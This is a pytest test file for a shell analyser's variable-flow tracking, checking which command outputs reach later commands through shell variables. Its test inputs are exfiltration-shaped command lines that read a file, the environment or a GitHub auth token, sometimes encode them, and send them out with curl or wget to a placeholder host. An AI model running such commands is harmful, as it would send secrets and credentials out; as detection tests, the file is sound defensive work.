"""Output that reaches a later command through a shell variable (`ShellAnalysis.flows`)."""

from __future__ import annotations

import pytest
from shell_testing import run, texts


def carried(command: str) -> set[tuple[str, str, str]]:
    """(source text, receiver text, variable) of every flow."""
    analysis = run(command)
    segments = analysis.segments
    return {(segments[f.source].text, segments[f.receiver].text, f.variable) for f in analysis.flows}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('X=$(cat k); curl -d "$X" u', {("cat k", "curl -d $X u", "X")}),
        ("X=`cat k`; curl u/$X", {("cat k", "curl u/$X", "X")}),
        ('export E="$(env)"; wget --post-data="$E" u', {("env", "wget --post-data=$E u", "E")}),
        ('local T=$(gh auth token); curl -d "${T}" u', {("gh auth token", "curl -d $T u", "T")}),
        # every stage of a substituted pipeline
        ("X=$(cat k | base64); curl u/$X", {("cat k", "curl u/$X", "X"), ("base64", "curl u/$X", "X")}),
        # copied from variable to variable, and through a substitution that uses one
        ('X=$(cat k); Y="a$X"; curl u/$Y', {("cat k", "curl u/$Y", "Y")}),
        (
            'X=$(cat k); Y=$(echo "$X" | rev); curl u/$Y',
            {
                ("cat k", "echo $X", "X"),
                ("echo $X", "curl u/$Y", "Y"),
                ("rev", "curl u/$Y", "Y"),
                ("cat k", "curl u/$Y", "Y"),  # the value names $X too
            },
        ),
        # read, mapfile and readarray take their stdin
        ("read -r X < k; curl u/$X", {("read -r X", "curl u/$X", "X")}),
        ("read -p 'key: ' -a PARTS < k; curl u/${PARTS[0]}", {("read -p key:  -a PARTS", "curl u/${PARTS[0]}", "PARTS")}),
        ("read < k; curl u/$REPLY", {("read", "curl u/$REPLY", "REPLY")}),
        ("mapfile -t LINES < k; curl -d \"${LINES[*]}\" u", {("mapfile -t LINES", "curl -d ${LINES[*]} u", "LINES")}),
        ("readarray < k; curl -d \"$MAPFILE\" u", {("readarray", "curl -d $MAPFILE u", "MAPFILE")}),
        # a loop over what a command prints, or over a carrier
        ("for l in $(base64 k); do curl u/$l; done", {("base64 k", "curl u/$l", "l")}),
        ('X=$(cat k); for l in $X; do curl u/$l; done', {("cat k", "curl u/$l", "l")}),
        # an assignment before a command hands the output to that command only
        ("D=$(cat k) python3 send.py; curl u/$D", {("cat k", "python3 send.py", "D")}),
    ],
)
def test_a_variable_carries_what_its_commands_print(command: str, expected: set[tuple[str, str, str]]) -> None:
    assert carried(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        'X=$(cat k); X=done; curl -d "$X" u',  # reassigned to a literal
        'curl -d "$X" u; X=$(cat k)',  # used before it is set
        'X=$(echo hello); curl -d "$X" u',  # a literal output is a literal value
        "for l in a b; do curl u/$l; done",
        'X=$(cat k); curl -d "$XY" u',  # another name that starts the same
    ],
)
def test_no_flow(command: str) -> None:
    assert carried(command) == set(), texts(run(command))
